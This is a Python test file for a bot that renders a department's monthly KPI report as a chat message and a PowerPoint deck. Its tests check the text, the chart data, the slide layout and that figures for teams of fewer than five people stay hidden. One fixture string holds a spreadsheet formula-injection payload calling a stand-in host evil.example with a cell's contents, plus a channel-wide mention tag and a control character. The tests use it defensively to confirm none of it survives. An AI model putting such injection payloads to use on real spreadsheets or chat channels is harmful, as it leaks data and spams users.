"""A department's month as people read it: a message that fits, and slides that say the same."""

import zipfile
from collections.abc import Iterator
from dataclasses import replace
from io import BytesIO
from typing import Any

import pytest
from pptx import Presentation
from pptx.util import Inches
from python_calamine import CalamineWorkbook

from bot.domain.reports.department import DepartmentReport
from bot.sandbox.validation.messages import check_message_blocks
from messages.catalog import LANGUAGES
from messages.reports.deck import EAST_ASIAN, MOST_ROWS
from messages.reports.department_card import deck_note, department_card
from messages.reports.department_deck import department_deck
from messages.reports.department_lines import few_label
from tests.builders.department import HIDDEN, OCTOBER, kpi, month_of_marketing
from tests.messages.intake.test_cards import texts, words

EVIL = '=HYPERLINK("https://evil.example?"&A1,"look") <!channel> & \x07'
LONG_CHINESE = "店铺整体转化率与停留时间综合指标" * 10
FORTY = tuple(
    kpi((EVIL * 4 if number % 2 else LONG_CHINESE)[:150], "3.1", "2.7", "3.7", target="9" * 120)
    for number in range(40)
)
LARGE = month_of_marketing(
    department=LONG_CHINESE[:80],
    kpis=FORTY,
    shared=FORTY,
    recognised=tuple("Chen Jie " * 12 for _ in range(40)),
)
PLAIN = month_of_marketing(kpis=(), shared=())


def slides(report: DepartmentReport, language: str = "en") -> list[Any]:
    return list(Presentation(BytesIO(department_deck(words(language), report))).slides)


def charts(found: list[Any]) -> dict[str, Any]:
    return {each.shapes.title.text: shape.chart for each in found for shape in each.shapes if shape.has_chart}


def numbers(chart: Any) -> dict[str, tuple[float | None, ...]]:
    return {series.name: tuple(series.values) for series in chart.plots[0].series}


def said(found: list[Any]) -> Iterator[str]:
    for slide in found:
        for shape in slide.shapes:
            if shape.has_text_frame:
                yield from (paragraph.text for paragraph in shape.text_frame.paragraphs)
            elif shape.has_table:
                yield from (cell.text for row in shape.table.rows for cell in row.cells)


def test_the_message_says_the_four_parts() -> None:
    card = department_card(words(), month_of_marketing())

    text = texts(card)
    for line in (
        "Marketing in October 2026. 2 of 3 KPIs reach their target. 42 of 47 steps were done in time.",
        "• Check-ins: 26 of 31 in time, 3 late, 2 not due yet",
        "1. Shop-wide conversion: 3.7 % in Oct 26, target 3.6 %: 103 %",
        "• Website briefs: 6 of 8 ready in time",
        "1. Launches on time: 3.6 % in Oct 26, target 3.6 %: 100 %",
        "• Trainings: begun: 6; done: 5",
        "• Kinds of training: Classroom training: 6",
        "• Trainings offered: taken up: 6; declined: 5",
        "• What the posts ask for: 41 of 52 requirements met",
        "• Suggestions: 7 made: 3 adopted, 1 not for now, 1 not adopted, 2 without an answer",
        "• Improvement actions: 13 open, 4 of them late",
        "• Recognised: Chen Jie",
    ):
        assert line in text
    drawn = [each["chart"] for each in card.blocks if each["type"] == "data_visualization"]
    assert [[point["value"] for point in each["data"]] for each in drawn[0]["series"]] == [
        [26, 9, 7],
        [3, 0, 2],
        [2, 0, 3],
    ]
    assert [point["value"] for point in drawn[1]["series"][0]["data"]] == [103, 75]


@pytest.mark.parametrize("report", [HIDDEN, PLAIN, LARGE], ids=["hidden", "no KPIs", "large"])
@pytest.mark.parametrize("language", LANGUAGES)
def test_whatever_there_is_the_message_fits(language: str, report: DepartmentReport) -> None:
    for has_chart in (True, False):
        check_message_blocks(department_card(words(language), report, has_chart=has_chart).blocks)


def test_of_a_department_of_four_no_number_about_people_is_said_or_drawn() -> None:
    card, found = department_card(words(), HIDDEN), slides(HIDDEN)

    lines = [each for each in texts(card).splitlines() if each.startswith("•")]
    assert len(lines) == 14
    assert {each.split(": ", 1)[1] for each in lines} == {few_label(words()), "nobody in this month"}
    assert set(charts(found)) == {
        "KPIs of the team: percent of the target",
        "KPIs of the team: month by month",
        "Shared KPIs: percent of the target",
    }
    counted = ("Check-ins  ", "Goals  ", "Reviews  ", "Website briefs  ", "Feedback  ", "Trainings  ")
    counted += ("Questions  ", "Kinds of training  ", "Trainings offered  ")
    counted += ("Mentor pairings  ", "What the posts ask for  ", "Suggestions  ", "Improvement actions  ")
    lines = [each for each in said(found[:-1]) if each.startswith(counted)]
    assert len(lines) >= len(counted)
    assert [each for each in lines if not each.endswith(few_label(words()))] == []
    assert "Fewer than five people: no figure about people is shown." in list(said(found))


def test_charts_of_the_slides_hold_the_numbers_and_can_be_edited() -> None:
    found = charts(slides(month_of_marketing()))

    steps = found["1 · How the team did: steps due in the month"]
    assert list(steps.plots[0].categories) == ["Check-ins", "Goals", "Reviews"]
    assert numbers(steps) == {"In time": (26, 9, 7), "Late": (3, 0, 2), "Not due yet": (2, 0, 3)}
    attained = found["KPIs of the team: percent of the target"]
    assert list(attained.plots[0].categories) == ["1. Shop-wide conversion", "2. Campaign ROI"]
    assert numbers(attained) == {"Newest figure": (103, 75), "Figure before": (94, 86)}
    trend = found["KPIs of the team: month by month"]
    assert list(trend.plots[0].categories) == ["Aug 26", "Sep 26", "Oct 26"]
    assert numbers(trend) == {"1. Shop-wide conversion": (89, 94, 103), "2. Campaign ROI": (None, 86, 75)}
    assert numbers(found["4 · What to do better: what became of suggestions"]) == {
        "Suggestions": (3, 1, 1, 2)
    }
    for chart in found.values():
        sheet = CalamineWorkbook.from_filelike(BytesIO(chart.part.chart_workbook.xlsx_part.blob))
        rows = sheet.get_sheet_by_index(0).to_python()
        assert [each[0] for each in rows[1:]] == list(chart.plots[0].categories)


@pytest.mark.parametrize("language", LANGUAGES)
def test_forty_kpis_with_long_names_stay_on_their_slides(language: str) -> None:
    found = slides(LARGE, language)

    for chart in charts(found).values():
        assert len(chart.plots[0].categories) <= MOST_ROWS
    for slide in found:
        for shape in slide.shapes:
            height = sum(row.height for row in shape.table.rows) if shape.has_table else shape.height
            assert shape.top + height <= Inches(7.5)
            assert shape.left + shape.width <= Inches(13.334)
    names = [each for each in said(found) if each.startswith("40. ")]
    assert len(names) == 2
    assert "\x07" not in "".join(said(found))


def test_no_name_is_taken_for_a_formula_in_a_charts_own_sheet() -> None:
    for chart in charts(slides(LARGE)).values():
        content = chart.part.chart_workbook.xlsx_part.blob
        assert b"<f>" not in _sheet(content)


def _sheet(content: bytes) -> bytes:
    with zipfile.ZipFile(BytesIO(content)) as file:
        return file.read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("language", LANGUAGES)
def test_chinese_has_a_typeface_that_is_there(language: str) -> None:
    found = slides(month_of_marketing(), language)

    runs = [each for slide in found for each in slide._element.iter() if each.tag.endswith("}rPr")]
    named = {part.get("typeface") for each in runs for part in each if part.tag.endswith("}ea")}
    assert named == {EAST_ASIAN[language]}
    assert all(any(part.tag.endswith("}ea") for part in each) for each in runs)


def test_without_kpis_it_says_so_and_where_they_come_from() -> None:
    assert "No KPI stands on the team's sheet" in texts(department_card(words(), PLAIN))
    assert "No KPI stands on the team's sheet; it comes with the organisation file." in list(
        said(slides(PLAIN))
    )


def test_a_month_without_anything_is_one_sentence() -> None:
    nothing = replace(HIDDEN, kpis=(), shared=())

    said, pressed = department_card(words(), nothing).blocks

    assert "nothing was due" in said["text"]["text"]
    assert pressed["elements"][0]["value"] == "2026-09 Marketing"


def test_what_stands_above_the_slides_names_department_and_month() -> None:
    note = deck_note(words(), department="Marketing", month="October 2026")

    assert note.text == "The slides: Marketing in October 2026."
    assert str(OCTOBER) == "2026-10"
